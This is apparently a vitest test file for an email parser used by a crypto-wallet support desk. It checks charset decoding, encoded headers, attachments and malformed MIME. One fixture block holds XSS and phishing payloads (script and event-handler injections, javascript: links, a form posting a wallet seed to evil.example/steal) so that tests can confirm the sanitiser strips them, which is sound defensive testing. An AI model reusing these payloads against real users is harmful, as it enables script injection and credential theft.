import iconv from 'iconv-lite';
import MailComposer, { type Options as ComposeOptions } from 'nodemailer/lib/mail-composer/index.js';
import { encode as qpEncode, wrap as qpWrap } from 'nodemailer/lib/qp/index.js';
import { describe, expect, it } from 'vitest';
import { parseMail, UnparseableMailError, type ParsedMail } from './parse-mail.ts';

// Fixtures are built the way customers' clients build mail: nodemailer's composer where it fits, raw MIME with
// iconv-lite encoded bytes where a legacy charset (or a client's particular mistake) is the point.

const CRLF = '\r\n';

function compose(options: ComposeOptions): Promise<Buffer> {
  return new MailComposer({ date: new Date('2025-11-25T08:00:00Z'), ...options }).compile().build();
}

/** A message from header lines and a body; the body may be raw bytes in any charset. */
function rawMail(headers: string[], body: Uint8Array | string = '', eol = CRLF): Buffer {
  const bytes = typeof body === 'string' ? Buffer.from(body.replace(/\r?\n/g, eol), 'utf8') : Buffer.from(body);
  return Buffer.concat([Buffer.from(headers.join(eol) + eol + eol, 'utf8'), bytes]);
}

/** Header bytes as an old client writes them: raw 8-bit, no encoded words. */
function rawHeaderBytes(...parts: (string | Buffer)[]): Buffer {
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)));
}

const encode = (text: string, charset: string) => iconv.encode(text, charset);
const base64Lines = (bytes: Uint8Array) => (Buffer.from(bytes).toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
const bWord = (text: string, charset: string) => `=?${charset}?B?${encode(text, charset).toString('base64')}?=`;
const qWord = (bytes: Uint8Array, charset: string) =>
  `=?${charset}?Q?${[...bytes].map((b) => (/[A-Za-z0-9]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : b === 0x20 ? '_' : `=${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('')}?=`;

/** ISO-2022-JP as Japanese mailers write it: JIS X 0208 (the EUC-JP bytes less 0x80) between ESC $ B and ESC ( B. */
function iso2022jp(text: string): Buffer {
  const out: number[] = [];
  let jis = false;
  for (const ch of text) {
    const euc = iconv.encode(ch, 'euc-jp');
    if (euc.length === 1) {
      if (jis) out.push(0x1b, 0x28, 0x42);
      jis = false;
      out.push(euc[0] as number);
    } else if (euc.length === 2 && (euc[0] as number) >= 0xa1) {
      if (!jis) out.push(0x1b, 0x24, 0x42);
      jis = true;
      out.push((euc[0] as number) - 0x80, (euc[1] as number) - 0x80);
    } else {
      throw new Error(`fixture: ${ch} is not in JIS X 0208`);
    }
  }
  if (jis) out.push(0x1b, 0x28, 0x42);
  return Buffer.from(out);
}

function bodyWith(bytes: Buffer, transfer: '8bit' | '7bit' | 'base64' | 'quoted-printable'): Buffer {
  if (transfer === 'base64') return Buffer.from(base64Lines(bytes) + CRLF, 'latin1');
  if (transfer === 'quoted-printable') return Buffer.from(qpWrap(qpEncode(bytes), 76).replace(/\r?\n/g, CRLF) + CRLF, 'latin1');
  return Buffer.concat([bytes, Buffer.from(CRLF)]);
}

async function parsesOrRefuses(raw: Uint8Array): Promise<ParsedMail | UnparseableMailError> {
  try {
    return await parseMail(raw);
  } catch (err) {
    if (err instanceof UnparseableMailError) return err;
    throw err;
  }
}

describe('parseMail: body charsets', () => {
  it('decodes UTF-8 mail composed by a modern client', async () => {
    const raw = await compose({
      from: '"张伟 (Zhang Wei)" <Zhang.Wei@Example.CN>',
      to: ['"客服" <support@walletdesk.local>'],
      cc: '"Ольга" <olga@example.ru>',
      subject: '提币失败：订单 #A-1001 一直“处理中” 😟',
      text: '您好，\n我昨天提币 0.5 BTC，到现在还没到账。交易哈希：abc123。\nСпасибо! Ça marche pas 😟\n',
      html: '<p>您好，<b>提币</b>失败 😟</p>',
    });
    const p = await parseMail(raw);
    expect(p.from).toEqual({ address: 'zhang.wei@example.cn', name: '张伟 (Zhang Wei)' });
    expect(p.to).toEqual([{ address: 'support@walletdesk.local', name: '客服' }]);
    expect(p.cc).toEqual([{ address: 'olga@example.ru', name: 'Ольга' }]);
    expect(p.subject).toBe('提币失败：订单 #A-1001 一直“处理中” 😟');
    expect(p.text).toBe('您好，\n我昨天提币 0.5 BTC，到现在还没到账。交易哈希：abc123。\nСпасибо! Ça marche pas 😟\n');
    expect(p.html).toBe('<p>您好，<b>提币</b>失败 😟</p>');
    expect(p.messageId).toMatch(/^<[^<>@]+@example\.cn>$/i);
  });

  // [declared charset, text, how iconv-lite encodes it, transfer encoding]. The declared label is what the client
  // wrote, which is not always what it encoded with: that is the point of several rows.
  const cases: [string, string, string, '8bit' | 'base64' | 'quoted-printable'][] = [
    ['gb2312', '朱镕基和王堃的账户无法提币，请帮忙。', 'gbk', 'base64'], // 镕 and 堃 are GBK, outside GB2312
    ['GB2312', '朱镕基、王堃：充值未到账', 'gbk', '8bit'],
    ['gbk', '您好，我的钱包地址无法提币。手续费：０．０００５ BTC', 'gbk', 'quoted-printable'],
    ['x-gbk', '账户被冻结了，怎么办？', 'gbk', '8bit'],
    ['gb18030', '表情 😀，扩展B区 𠀀𪚥，欧元 €', 'gb18030', 'base64'], // four-byte sequences
    ['gb2312', '手机发的 😀 𠀀 €100', 'gb18030', '8bit'], // a GB2312 label on GB18030 text, as phone clients send
    ['GBK', '见附件 😀', 'gb18030', 'quoted-printable'],
    ['euc-cn', '你好，世界', 'gbk', '8bit'],
    ['big5', '您好，提款問題：許功蓋，對帳單', 'big5', 'base64'], // 許功蓋 have 0x5C as their second byte
    ['iso-8859-1', 'Grüße aus Köln, café crème, ¿qué tal? ±5 ½', 'latin1', 'quoted-printable'],
    ['iso-8859-2', 'Zażółć gęślą jaźń, Łódź, Říčany, Ťažký', 'iso-8859-2', 'quoted-printable'],
    ['iso-8859-15', 'Prix : 10 €, œuvre, Šárka, Žižka, Ÿ', 'iso-8859-15', '8bit'],
    ['windows-1251', 'Здравствуйте! Не могу вывести средства, «срочно» — №42', 'windows-1251', 'base64'],
    ['windows-1252', '“Withdrawal” failed – 50 € … it’s ‘stuck’ ™ Œuvre', 'windows-1252', 'quoted-printable'],
    ['iso-8859-1', 'It’s “stuck” – €5', 'windows-1252', '8bit'], // Outlook labels cp1252 text as Latin-1
    ['us-ascii', 'Plain ASCII, nothing more.', 'ascii', '8bit'],
  ];

  it.each(cases)('decodes a %s-labelled body: %s', async (label, text, encoder, transfer) => {
    const raw = rawMail(
      ['From: customer@example.com', 'To: support@walletdesk.local', 'Subject: body test', 'MIME-Version: 1.0', `Content-Type: text/plain; charset="${label}"`, `Content-Transfer-Encoding: ${transfer}`],
      bodyWith(encode(text, encoder), transfer),
    );
    const p = await parseMail(raw);
    expect(p.text.trimEnd()).toBe(text);
  });

  it('decodes an ISO-2022-JP body and subject as Japanese mailers send them', async () => {
    const subject = '出金について';
    const text = 'こんにちは。出金ができません。ご確認ください。';
    const raw = rawMail(
      ['From: =?ISO-2022-JP?B?' + iso2022jp('山田太郎').toString('base64') + '?= <yamada@example.jp>', `Subject: =?ISO-2022-JP?B?${iso2022jp(subject).toString('base64')}?=`, 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=ISO-2022-JP', 'Content-Transfer-Encoding: 7bit'],
      Buffer.concat([iso2022jp(text), Buffer.from(CRLF)]),
    );
    const p = await parseMail(raw);
    expect(p.from).toEqual({ address: 'yamada@example.jp', name: '山田太郎' });
    expect(p.subject).toBe(subject);
    expect(p.text.trimEnd()).toBe(text);
  });

  it('decodes a windows-1252 HTML body without a text part into both HTML and text', async () => {
    const raw = rawMail(
      ['From: bob@example.com', 'Subject: html only', 'Content-Type: text/html; charset=windows-1252', 'Content-Transfer-Encoding: 8bit'],
      encode('<p>That’s “odd” – 5 €</p>', 'windows-1252'),
    );
    const p = await parseMail(raw);
    expect(p.html?.trimEnd()).toBe('<p>That’s “odd” – 5 €</p>');
    expect(p.text).toBe('That’s “odd” – 5 €');
  });

  it('decodes standard Big5 in a Big5-HKSCS-labelled body', async () => {
    const text = '香港客戶：提款問題';
    const raw = rawMail(['From: chan@example.hk', 'Content-Type: text/plain; charset=big5-hkscs', 'Content-Transfer-Encoding: base64'], bodyWith(encode(text, 'big5'), 'base64'));
    expect((await parseMail(raw)).text.trimEnd()).toBe(text);
  });

  // Known gap, not fixed: Node decodes big5 with ICU's windows-950 table, which maps the Hong Kong (HKSCS)
  // characters to private-use code points instead of the Big5-HKSCS the Encoding Standard specifies
  // (nodejs/node#40091): 9DEE comes out as U+ECD0 instead of 㗎, FB48 as U+E0A5 instead of 嘅. Fixing it needs a
  // Big5-HKSCS table at runtime. This test starts failing when that is fixed: then make it a plain `it`.
  it('decodes Hong Kong (HKSCS) characters in Big5 mail (Node puts them on private-use code points)', async () => {
    const text = '唔該，我嘅錢包㗎';
    const raw = rawMail(['From: chan@example.hk', 'Content-Type: text/plain; charset=big5', 'Content-Transfer-Encoding: 8bit'], encode(text, 'big5-hkscs'));
    expect((await parseMail(raw)).text.trimEnd()).toBe(text);
  });
});

describe('parseMail: header encodings', () => {
  it('decodes RFC 2047 B and Q words in GBK and UTF-8, folded across lines, in the subject and display names', async () => {
    const raw = rawMail(
      [
        `From: ${bWord('王小明', 'GBK')} <wang@example.cn>`,
        `To: ${qWord(Buffer.from('客服中心', 'utf8'), 'UTF-8')} <support@walletdesk.local>, "Plain Name" <plain@walletdesk.local>`,
        `Cc: ${qWord(encode('李雷', 'gb2312'), 'gb2312')} <li@example.cn>`,
        // Whole characters per word, as RFC 2047 requires, folded with CRLF SP: the folding is not content.
        `Subject: Re: ${bWord('关于提币', 'GBK')}${CRLF} ${bWord('延迟的问题', 'GBK')}${CRLF}\t${qWord(Buffer.from('（紧急）', 'utf8'), 'utf-8')} [#123]`,
      ],
      'body',
    );
    const p = await parseMail(raw);
    expect(p.subject).toBe('Re: 关于提币延迟的问题（紧急） [#123]');
    expect(p.from).toEqual({ address: 'wang@example.cn', name: '王小明' });
    expect(p.to).toEqual([
      { address: 'support@walletdesk.local', name: '客服中心' },
      { address: 'plain@walletdesk.local', name: 'Plain Name' },
    ]);
    expect(p.cc).toEqual([{ address: 'li@example.cn', name: '李雷' }]);
  });

  it('joins a multi-byte character split across two encoded words (Q, and B on a 3-byte boundary)', async () => {
    const q = Buffer.from('钱包', 'utf8'); // 6 bytes, split after the 4th: mid-character
    const b = encode('账户余额', 'gbk'); // 8 bytes, split after the 3rd: inside 户
    const raw = rawMail([
      'From: a@example.com',
      `Subject: ${qWord(q.subarray(0, 4), 'UTF-8')}${CRLF} ${qWord(q.subarray(4), 'UTF-8')} / =?GBK?B?${b.subarray(0, 3).toString('base64')}?=${CRLF} =?GBK?B?${b.subarray(3).toString('base64')}?=`,
    ]);
    expect((await parseMail(raw)).subject).toBe('钱包 / 账户余额');
  });

  it('reads GB2312-labelled encoded words as GB18030, so an emoji in a subject survives', async () => {
    const raw = rawMail(['From: a@example.com', `Subject: ${bWord('请回复 😀', 'gb18030').replace('gb18030', 'gb2312')}`]);
    expect((await parseMail(raw)).subject).toBe('请回复 😀');
  });

  it('decodes a windows-1252 encoded-word subject with curly quotes and a euro sign', async () => {
    const raw = rawMail(['From: a@example.com', `Subject: ${qWord(encode('“Refund” of 20 €', 'windows-1252'), 'windows-1252')}`]);
    expect((await parseMail(raw)).subject).toBe('“Refund” of 20 €');
  });

  it('decodes raw 8-bit GBK Subject and From headers with the charset the body declares', async () => {
    const raw = rawHeaderBytes(
      'From: "', encode('张三', 'gbk'), '" <zhang.san@example.cn>\r\n',
      'To: support@walletdesk.local\r\n',
      'Subject: ', encode('提币失败，朱镕基 😀', 'gb18030'), '\r\n',
      'Content-Type: text/plain; charset=gbk\r\nContent-Transfer-Encoding: 8bit\r\n\r\n',
      encode('正文：请尽快处理。', 'gbk'), '\r\n',
    );
    const p = await parseMail(raw);
    expect(p.subject).toBe('提币失败，朱镕基 😀');
    expect(p.from).toEqual({ address: 'zhang.san@example.cn', name: '张三' });
    expect(p.text.trimEnd()).toBe('正文：请尽快处理。');
  });

  it('decodes raw 8-bit Big5 headers whose bytes include a backslash (許 = B3 5C) inside a quoted name', async () => {
    const raw = rawHeaderBytes(
      'From: "', encode('許功蓋', 'big5'), '" <hsu@example.tw>\r\n',
      'Subject: ', encode('提款問題：對帳單', 'big5'), '\r\n',
      'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="b5"\r\n\r\n',
      '--b5\r\nContent-Type: text/plain; charset=big5\r\nContent-Transfer-Encoding: base64\r\n\r\n',
      bodyWith(encode('您好', 'big5'), 'base64'),
      '--b5--\r\n',
    );
    const p = await parseMail(raw);
    expect(p.from).toEqual({ address: 'hsu@example.tw', name: '許功蓋' });
    expect(p.subject).toBe('提款問題：對帳單');
    expect(p.text.trimEnd()).toBe('您好');
  });

  it('falls back to GB18030 for raw 8-bit headers when the message declares no legacy charset', async () => {
    const raw = rawHeaderBytes('From: ', encode('李四', 'gbk'), ' <li.si@example.cn>\r\nSubject: ', encode('账户安全', 'gbk'), '\r\n\r\nhello\r\n');
    const p = await parseMail(raw);
    expect(p.subject).toBe('账户安全');
    expect(p.from).toEqual({ address: 'li.si@example.cn', name: '李四' });
  });

  it('decodes a raw 8-bit GBK attachment filename in a part header', async () => {
    const raw = rawHeaderBytes(
      'From: a@example.cn\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n',
      '--p\r\nContent-Type: text/plain; charset=gb2312\r\n\r\n', encode('见附件', 'gbk'), '\r\n',
      '--p\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="', encode('对账单-十月.pdf', 'gbk'), '"\r\nContent-Transfer-Encoding: base64\r\n\r\n',
      base64Lines(Buffer.from('%PDF-1.7 statement')), '\r\n--p--\r\n',
    );
    const p = await parseMail(raw);
    expect(p.text.trimEnd()).toBe('见附件');
    expect(p.attachments.map((a) => a.filename)).toEqual(['对账单-十月.pdf']);
    expect(Buffer.from(p.attachments[0]?.content ?? []).toString()).toBe('%PDF-1.7 statement');
  });

  it('leaves raw UTF-8 headers (RFC 6532) as they are', async () => {
    const raw = rawMail(['From: "Ünïcødé 用户" <u@example.com>', 'Subject: 直接的 UTF-8 主题 — ok', 'Content-Type: text/plain; charset=gbk', 'Content-Transfer-Encoding: 8bit'], encode('正文', 'gbk'));
    const p = await parseMail(raw);
    expect(p.subject).toBe('直接的 UTF-8 主题 — ok');
    expect(p.from?.name).toBe('Ünïcødé 用户');
    expect(p.text.trimEnd()).toBe('正文');
  });

  it('decodes RFC 2231 filenames: UTF-8, continuations, GBK, and encoded words in a quoted name', async () => {
    const gbkName = encode('身份证 正面.jpg', 'gbk');
    const pct = (bytes: Uint8Array) => [...bytes].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
    const utf8 = Buffer.from('提币记录 2025年11月.csv', 'utf8');
    const part = (disposition: string[], type = 'application/octet-stream', content = 'x') =>
      [`--q`, `Content-Type: ${type}`, ...disposition, 'Content-Transfer-Encoding: base64', '', base64Lines(Buffer.from(content))].join(CRLF);
    const raw = rawMail(
      ['From: a@example.com', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="q"'],
      [
        part(['Content-Type: text/plain; charset=utf-8'], 'text/plain; charset=utf-8', 'see attached'),
        part([`Content-Disposition: attachment; filename*=UTF-8''${pct(Buffer.from('交易截图.png', 'utf8'))}`], 'image/png', 'png-bytes'),
        part([`Content-Disposition: attachment;`, ` filename*0*=utf-8''${pct(utf8.subarray(0, 7))};`, ` filename*1*=${pct(utf8.subarray(7, 20))};`, ` filename*2*=${pct(utf8.subarray(20))}`], 'text/csv', 'a,b'),
        part([`Content-Disposition: attachment; filename*=gbk'zh-cn'${pct(gbkName)}`], 'image/jpeg', 'jpeg-bytes'),
        part([`Content-Disposition: attachment; filename="${bWord('报告.pdf', 'gb2312')}"`], 'application/pdf', 'pdf-bytes'),
        part([], `application/msword; name="${bWord('合同 v2.doc', 'GBK')}"`, 'doc-bytes'),
        '--q--',
        '',
      ].join(CRLF),
    );
    const p = await parseMail(raw);
    expect(p.text.trim()).toBe('see attached');
    expect(p.attachments.map((a) => [a.filename, a.contentType, Buffer.from(a.content).toString()])).toEqual([
      ['交易截图.png', 'image/png', 'png-bytes'],
      ['提币记录 2025年11月.csv', 'text/csv', 'a,b'],
      ['身份证 正面.jpg', 'image/jpeg', 'jpeg-bytes'],
      ['报告.pdf', 'application/pdf', 'pdf-bytes'],
      ['合同 v2.doc', 'application/msword', 'doc-bytes'],
    ]);
  });

  it('keeps a long non-ASCII filename that the composer splits into RFC 2231 continuations', async () => {
    const filename = '身份证明文件 — 护照扫描件（正面与背面）2025年11月25日 最终版.pdf';
    const raw = await compose({ from: 'a@example.com', to: 'support@walletdesk.local', subject: 's', text: 't', attachments: [{ filename, content: Buffer.from('%PDF-1.4') }] });
    expect(raw.toString('latin1')).toMatch(/filename\*0\*=utf-8''/);
    const p = await parseMail(raw);
    expect(p.attachments.map((a) => a.filename)).toEqual([filename]);
  });

  it('handles mail with no Message-ID and no Date: no id, no threading, a stable content hash', async () => {
    const headers = ['From: a@example.com', 'To: support@walletdesk.local', 'Subject: no ids'];
    const raw = rawMail(headers, 'first message\n');
    expect(raw.toString('latin1')).not.toMatch(/^(message-id|date):/im);
    const p = await parseMail(raw);
    expect(p.messageId).toBeNull();
    expect(p.repliesTo).toEqual([]);
    expect(p.mail.date).toBeUndefined();
    expect(p.contentHash).toMatch(/^[0-9a-f]{64}$/);
    expect((await parseMail(Buffer.from(raw))).contentHash).toBe(p.contentHash);
    // A trace header added by a second delivery does not change it; other words do.
    expect((await parseMail(rawMail(['Received: from mx2.example.net', ...headers], 'first message\n'))).contentHash).toBe(p.contentHash);
    expect((await parseMail(rawMail(headers, 'second message\n'))).contentHash).not.toBe(p.contentHash);
  });
});

describe('parseMail: transfer encodings and structure', () => {
  const longChinese = '您好！'.repeat(40) + '\n第二行：提币地址 bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh。\n';

  it('decodes a quoted-printable body with soft line breaks', async () => {
    const raw = await compose({ from: 'a@example.com', subject: 'qp', text: longChinese, textEncoding: 'quoted-printable' });
    expect(raw.toString('latin1')).toMatch(/Content-Transfer-Encoding: quoted-printable/);
    expect(raw.toString('latin1')).toMatch(/=\r\n/);
    expect((await parseMail(raw)).text).toBe(longChinese);
  });

  it('decodes a wrapped base64 body', async () => {
    const raw = await compose({ from: 'a@example.com', subject: 'b64', text: longChinese, textEncoding: 'base64' });
    expect(raw.toString('latin1')).toMatch(/Content-Transfer-Encoding: base64/);
    expect((await parseMail(raw)).text).toBe(longChinese);
  });

  it('parses bare-LF mail the same as CRLF mail', async () => {
    const crlf = await compose({
      from: '"陈" <chen@example.cn>',
      subject: '换行测试 — bare LF',
      text: 'line one\nline two\n',
      html: '<p>line one</p>',
      attachments: [{ filename: '截图.png', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]) }],
    });
    const lf = Buffer.from(crlf.toString('latin1').replace(/\r\n/g, '\n'), 'latin1');
    expect(lf.includes('\r')).toBe(false);
    const [a, b] = [await parseMail(crlf), await parseMail(lf)];
    expect(b.subject).toBe('换行测试 — bare LF');
    expect(b.from).toEqual({ address: 'chen@example.cn', name: '陈' });
    expect(b.text.trimEnd()).toBe('line one\nline two');
    expect(b.text).toBe(a.text);
    expect(b.html).toBe(a.html);
    expect(b.attachments.map((x) => [x.filename, Buffer.from(x.content).toString('hex')])).toEqual([['截图.png', '89504e470d0a']]);
    expect(b.contentHash).toBe(a.contentHash);
  });

  it('takes text and html from multipart/alternative + related, and keeps the cid: image inline', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const raw = await compose({
      from: 'a@example.com',
      subject: 'inline image',
      text: 'See the screenshot.',
      html: '<p>See the screenshot:</p><img src="cid:shot@walletdesk.test" alt="shot">',
      attachments: [
        { filename: 'screenshot.png', content: png, cid: 'shot@walletdesk.test' },
        { filename: 'statement.pdf', content: Buffer.from('%PDF-1.4') },
      ],
    });
    expect(raw.toString('latin1')).toMatch(/multipart\/alternative/);
    expect(raw.toString('latin1')).toMatch(/multipart\/related/);
    const p = await parseMail(raw);
    expect(p.text.trim()).toBe('See the screenshot.');
    expect(p.html?.trimEnd()).toBe('<p>See the screenshot:</p><img src="cid:shot@walletdesk.test" alt="shot" />');
    expect(p.attachments.map((a) => ({ filename: a.filename, type: a.contentType, cid: a.contentId, inline: a.inline }))).toEqual([
      { filename: 'screenshot.png', type: 'image/png', cid: '<shot@walletdesk.test>', inline: true },
      { filename: 'statement.pdf', type: 'application/pdf', cid: null, inline: false },
    ]);
    expect(Buffer.from(p.attachments[0]?.content ?? []).equals(png)).toBe(true);
  });

  it('names attachments that have no filename after their type', async () => {
    const part = (type: string, disposition: string | null, content: string) =>
      ['--n', `Content-Type: ${type}`, ...(disposition ? [`Content-Disposition: ${disposition}`] : []), 'Content-Transfer-Encoding: base64', '', base64Lines(Buffer.from(content))].join(CRLF);
    const raw = rawMail(
      ['From: a@example.com', 'Content-Type: multipart/mixed; boundary=n'],
      [part('text/plain; charset=utf-8', null, 'body text'), part('application/pdf', 'attachment', '%PDF'), part('image/png', 'inline', 'png'), part('application/x-unknown', 'attachment', 'blob'), '--n--', ''].join(CRLF),
    );
    const p = await parseMail(raw);
    expect(p.attachments.map((a) => [a.filename, a.contentType, a.inline])).toEqual([
      ['attachment-1.pdf', 'application/pdf', false],
      ['attachment-2.png', 'image/png', true],
      ['attachment-3.bin', 'application/x-unknown', false],
    ]);
  });
});

describe('parseMail: hostile HTML', () => {
  const hostile = [
    '<html><head><style>body{background:url(https://evil.example/track.png)} @import url(https://evil.example/x.css);</style>',
    '<script>alert(1)</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css"></head><body onload="alert(2)">',
    '<p onclick="alert(3)">Hello <b>there</b></p>',
    '<img src="https://evil.example/pixel.png" onerror="alert(4)"><img src=x onerror=alert(5)>',
    '<a href="javascript:alert(6)">one</a> <a href="JaVaScRiPt&#58;alert(7)">two</a> <a href=" java&#x09;script:alert(8)">three</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">four</a> <a href="vbscript:msgbox(10)">five</a>',
    '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>alert(11)</script>"></iframe>',
    '<form action="https://evil.example/steal" method="post"><input name="seed" value="word list"><button formaction="https://evil.example/b">Verify wallet</button></form>',
    '<svg onload="alert(12)"><circle r="5"/><a xlink:href="javascript:alert(13)"><text>svg</text></a></svg>',
    '<math><mtext><script>alert(14)</script></mtext></math>',
    '<div style="background-image:url(https://evil.example/bg.png);behavior:url(x.htc)">styled</div>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(15)>"></p></noscript>',
    '<template><script>alert(16)</script></template><textarea><script>alert(17)</script></textarea>',
    '<a href="https://wallet.example/help" target="_self" rel="opener">help centre</a>',
    '<img src="cid:logo@walletdesk.test" alt="logo">',
    '</body></html>',
  ].join('\n');

  function expectNothingActive(html: string) {
    expect(html).not.toMatch(/<\s*(script|style|iframe|frame|form|input|button|svg|math|object|embed|base|meta|link|template|textarea|noscript)\b/i);
    expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript|vbscript|data:|url\(|@import|srcdoc|formaction|xlink/i);
    expect(html).not.toMatch(/alert|msgbox|evil\.example\/(track|x\.css|s\.css|steal|frame|bg|b\b)/);
  }

  it('strips scripts, handlers, javascript: links, frames, forms, styles and svg, and keeps the content', async () => {
    const raw = await compose({ from: 'phisher@example.com', subject: 'verify your wallet', text: 'plain part', html: hostile });
    const p = await parseMail(raw);
    const html = p.html ?? '';
    expectNothingActive(html);
    expect(html).toContain('<p>Hello <b>there</b></p>');
    expect(html).toContain('<div>styled</div>');
    expect(html).toContain('<img src="cid:logo@walletdesk.test" alt="logo" />');
    // Links keep safe targets only, and always open apart from the console, without an opener.
    const links = html.match(/<a\b[^>]*>/g) ?? [];
    expect(links).toHaveLength(7);
    expect(links.filter((a) => a.includes('href='))).toEqual([expect.stringContaining('href="https://wallet.example/help"')]);
    for (const a of links) {
      expect(a).toContain('rel="noopener noreferrer nofollow"');
      expect(a).toContain('target="_blank"');
    }
    expect(p.text.trimEnd()).toBe('plain part');
  });

  it('derives the text of an HTML-only mail without script or style content', async () => {
    const raw = rawMail(['From: phisher@example.com', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable'], qpWrap(qpEncode(Buffer.from(hostile)), 76));
    const p = await parseMail(raw);
    expectNothingActive(p.html ?? '');
    expect(p.text).toContain('Hello there');
    expect(p.text).toContain('Verify wallet');
    expect(p.text).not.toMatch(/alert|url\(|background|msgbox/);
  });
});

describe('parseMail: malformed MIME', () => {
  it('recovers the parts of a multipart whose closing boundary is missing', async () => {
    const raw = rawMail(
      ['From: a@example.com', 'Content-Type: multipart/mixed; boundary="b1"'],
      ['--b1', 'Content-Type: text/plain; charset=utf-8', '', '钱包余额不对', '--b1', 'Content-Type: application/pdf; name=a.pdf', 'Content-Transfer-Encoding: base64', '', base64Lines(Buffer.from('%PDF-1.4 truncated')), ''].join(CRLF),
    );
    const p = await parseMail(raw);
    expect(p.text.trimEnd()).toBe('钱包余额不对');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).toString()])).toEqual([['a.pdf', '%PDF-1.4 truncated']]);
  });

  it('recovers a multipart whose boundary was never declared, from the delimiter its body uses', async () => {
    const raw = rawMail(
      ['From: a@example.com', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed'],
      ['This is a multi-part message in MIME format.', '--=_undeclared_42', 'Content-Type: text/plain; charset=gbk', 'Content-Transfer-Encoding: base64', '', base64Lines(encode('没有声明边界', 'gbk')), '--=_undeclared_42', 'Content-Type: image/png; name=shot.png', 'Content-Transfer-Encoding: base64', '', base64Lines(Buffer.from('png')), '--=_undeclared_42--', ''].join(CRLF),
    );
    const p = await parseMail(raw);
    expect(p.text.trimEnd()).toBe('没有声明边界');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).toString()])).toEqual([['shot.png', 'png']]);
  });

  it('reads an undeclared-boundary multipart with no delimiter lines as plain text rather than dropping it', async () => {
    const raw = rawMail(['From: a@example.com', 'Content-Type: multipart/alternative; charset=utf-8'], '我的提币还没到账\n');
    expect((await parseMail(raw)).text.trimEnd()).toBe('我的提币还没到账');
  });

  it('decodes what it can of garbage base64 and does not throw', async () => {
    const raw = rawMail(
      ['From: a@example.com', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
      `${Buffer.from('你好，', 'utf8').toString('base64')}\n!!!! not base64 at all ~~~ ####\n=====\n\u0000\u0001\n`,
    );
    const p = await parseMail(raw);
    expect(p.text.startsWith('你好，')).toBe(true);
  });

  it('refuses a 2 MB header block with UnparseableMailError', async () => {
    const filler = Array.from({ length: 30_000 }, (_, i) => `X-Filler-${i}: ${'y'.repeat(60)}`);
    const raw = rawMail(['From: a@example.com', 'Subject: huge headers', ...filler], 'body\n');
    expect(raw.byteLength).toBeGreaterThan(2 * 1024 * 1024);
    const err = await parseMail(raw).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UnparseableMailError);
    expect((err as Error).message).toMatch(/header size/);
    const oneLine = rawMail(['From: a@example.com', `Subject: ${'z'.repeat(2 * 1024 * 1024)}`], 'body\n');
    await expect(parseMail(oneLine)).rejects.toBeInstanceOf(UnparseableMailError);
  });

  function nested(depth: number): Buffer {
    let s = 'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="d0"\r\n\r\n';
    for (let i = 1; i < depth; i++) s += `--d${i - 1}\r\nContent-Type: multipart/mixed; boundary="d${i}"\r\n\r\n`;
    s += `--d${depth - 1}\r\nContent-Type: text/plain\r\n\r\ndeep text\r\n`;
    for (let i = depth - 1; i >= 0; i--) s += `--d${i}--\r\n`;
    return Buffer.from(s);
  }

  it('parses reasonably deep nesting and refuses absurd nesting with UnparseableMailError', async () => {
    expect((await parseMail(nested(30))).text.trimEnd()).toBe('deep text');
    const err = await parseMail(nested(200)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UnparseableMailError);
    expect((err as Error).message).toMatch(/nesting/);
  });

  it('copes with empty input, no headers and binary noise', async () => {
    for (const raw of [new Uint8Array(0), Buffer.from('just words, no headers'), Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256))]) {
      const p = await parseMail(raw);
      expect(p.from).toBeNull();
      expect(p.attachments).toEqual([]);
    }
  });

  it('never throws anything but UnparseableMailError on truncated or corrupted mail', async () => {
    const base = await compose({
      from: `"${'测试'}" <t@example.cn>`,
      subject: '截断测试',
      text: '正文'.repeat(50),
      html: '<p>正文</p><img src="cid:c@x">',
      attachments: [{ filename: '附件.pdf', content: Buffer.alloc(600, 7) }, { cid: 'c@x', filename: 'i.png', content: Buffer.alloc(90, 1) }],
    });
    const gbkHeaders = rawHeaderBytes('Subject: ', encode('坏了', 'gbk'), '\r\nContent-Type: multipart/mixed\r\n\r\n--x\r\n');
    let seed = 7;
    const rand = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
    const variants: Buffer[] = [gbkHeaders];
    for (let cut = 1; cut < base.length; cut += 37) variants.push(base.subarray(0, cut));
    for (let i = 0; i < 150; i++) {
      const copy = Buffer.from(base);
      for (let k = 0; k < 8; k++) copy[Math.floor(rand() * copy.length)] = Math.floor(rand() * 256);
      variants.push(copy);
    }
    for (const raw of variants) {
      const result = await parsesOrRefuses(raw);
      if (!(result instanceof UnparseableMailError)) expect(typeof result.text).toBe('string');
    }
  });
});
